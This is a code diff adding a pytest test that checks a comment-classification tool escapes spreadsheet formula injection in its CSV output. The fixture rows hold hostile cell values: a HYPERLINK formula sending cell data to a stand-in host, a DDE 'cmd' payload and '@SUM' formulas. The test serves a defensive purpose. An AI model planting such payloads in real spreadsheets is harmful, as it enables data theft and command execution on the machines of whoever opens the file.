@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import re
 
 import numpy as np
 import pytest
@@ -328,3 +329,26 @@ def test_short_rows_are_padded(tmp_path, tiny_model_path):
     rows = _read(out)
     assert [r["comment_id"] for r in rows] == ["1", "2"]
     assert rows[1]["Labelling not possible"] == "1"
+
+
+def test_formulas_in_ids_and_comments_never_reach_the_spreadsheet(tmp_path, tiny_model_path):
+    hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    src = _write(
+        tmp_path / "in.csv",
+        ["comment_id", "comment_text"],
+        [
+            [hyperlink, "The crew were kind"],
+            ["+cmd|' /C calc'!A0", "Waited four hours"],
+            ["@SUM(1+1)", hyperlink],
+            ["-3", "Food was cold"],
+            ["-0.5", "@SUM(1+1)"],
+        ],
+    )
+    out = tmp_path / "o.csv"
+    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
+    rows = _read(out)
+    assert [r["comment_id"] for r in rows] == ["'" + hyperlink, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "-3", "-0.5"]
+    with open(out, encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    numbers = re.compile(r"-?\d+(\.\d+)?")
+    assert all(c[:1] not in {"=", "+", "@", "-"} or numbers.fullmatch(c) for c in cells)
